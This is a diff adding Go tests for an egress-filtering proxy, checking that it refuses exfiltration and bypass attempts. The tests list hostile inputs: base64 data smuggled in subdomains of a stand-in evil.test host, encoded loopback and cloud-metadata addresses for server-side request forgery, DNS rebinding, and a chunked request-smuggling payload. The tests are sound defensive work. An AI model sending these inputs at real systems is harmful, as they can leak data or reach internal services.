@@ -243,3 +243,75 @@ func TestEndClosesWhatIsOpen(t *testing.T) {
 		t.Error("the tunnel is open after the end")
 	}
 }
+
+// TestNothingLeavesByOtherForms is a corpus of ways to carry something out past the names
+// that are allowed: none is answered by anything behind the proxy, and no name server is
+// asked about a name that is not allowed.
+func TestNothingLeavesByOtherForms(t *testing.T) {
+	w := start(t, "safe.test=SAFE", "plain.test:80=PLAIN", "rebound.test", "rebound.test:80")
+	for _, host := range []string{
+		"c2VjcmV0.evil.test", "c2VjcmV0.safe.test", strings.Repeat("a", 60) + ".safe.test", "safe.test.evil.test", "safe.test%00.evil.test", "safe%2etest", "ѕafe.test", "xn--afe-0cd.test",
+		"127.0.0.1", "127.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "0", "0.0.0.0", "localhost", "localhost.localdomain",
+		"[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1]", "[fd00::1]", "[::1%25lo]",
+		"10.0.0.1", "172.16.0.1", "192.168.0.1", "169.254.169.254", "100.64.0.1", "metadata.google.internal", "rebound.test",
+	} {
+		for _, request := range []string{
+			"CONNECT " + host + ":443 HTTP/1.1\r\nHost: safe.test:443\r\n\r\n",
+			"CONNECT " + host + ":22 HTTP/1.1\r\nHost: safe.test:443\r\n\r\n",
+			"GET http://" + host + "/?c2VjcmV0 HTTP/1.1\r\nHost: plain.test\r\n\r\n",
+			"GET http://plain.test:80@" + host + "/ HTTP/1.1\r\nHost: plain.test\r\n\r\n",
+			"POST http://" + host + ":25/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 6\r\n\r\nsecret",
+		} {
+			if got := w.say(t, request, "SSH-2.0-x\r\n"); strings.HasPrefix(got, "HTTP/1.1 2") || strings.Contains(got, "hello from") {
+				t.Errorf("%q: %q", request, got)
+			}
+		}
+	}
+	for name, request := range map[string]string{
+		"the ssh port of an allowed host":   "CONNECT safe.test:22 HTTP/1.1\r\nHost: safe.test:22\r\n\r\n",
+		"the plain port in a tunnel":        "CONNECT plain.test:80 HTTP/1.1\r\nHost: plain.test\r\n\r\n",
+		"a second request after an allowed": "GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\nGET http://evil.test/?c2VjcmV0 HTTP/1.1\r\nHost: plain.test\r\n\r\n",
+		"a request hidden in a body":        "POST http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+		"the host of the header":            "GET http://plain.test/headers HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+	} {
+		got := w.say(t, request, "SSH-2.0-x\r\n")
+		if strings.Contains(got, "from evil.test") || strings.Contains(got, "200 evil.test") || strings.Contains(got, "SSH") || strings.Count(got, "hello from") > 1 {
+			t.Errorf("%s: %q", name, got)
+		}
+	}
+	for _, reached := range w.end().Reached {
+		if reached != "plain.test:80" && reached != "safe.test:443" {
+			t.Errorf("%s was reached", reached)
+		}
+	}
+}
+
+// TestAReboundNameIsNotReached: the address that was checked is the one that is dialled, and
+// a name with a private address beside a public one leads to neither of the private ones.
+func TestAReboundNameIsNotReached(t *testing.T) {
+	for _, private := range []string{"127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "::1", "fd00::1", "fe80::1", "::ffff:10.0.0.1", "64:ff9b::a00:1", "2002:a00:1::"} {
+		var asked []string
+		p := &egress.Proxy{Lookup: func(_ context.Context, _, host string) ([]netip.Addr, error) {
+			asked = append(asked, host)
+			return []netip.Addr{netip.MustParseAddr(private)}, nil
+		}}
+		h, err := address.ParseHost("rebound.test:80")
+		if err != nil {
+			t.Fatal(err)
+		}
+		p.Hosts = []address.Host{h}
+		l, err := net.Listen("tcp", "127.0.0.1:0")
+		if err != nil {
+			t.Fatal(err)
+		}
+		w := &world{proxy: &url.URL{Scheme: "http", Host: l.Addr().String()}, end: p.Serve(l)}
+		for _, to := range []string{"http://rebound.test/", "http://c2VjcmV0.rebound.test/", "http://c2VjcmV0.evil.test/"} {
+			if got := w.get(t, to); !strings.HasPrefix(got, "403 refused") {
+				t.Errorf("%s at %s: %s", to, private, got)
+			}
+		}
+		if got := w.end(); len(got.Reached) > 0 || len(asked) != 1 || asked[0] != "rebound.test" {
+			t.Errorf("%s: %+v; names were looked up: %q", private, got, asked)
+		}
+	}
+}
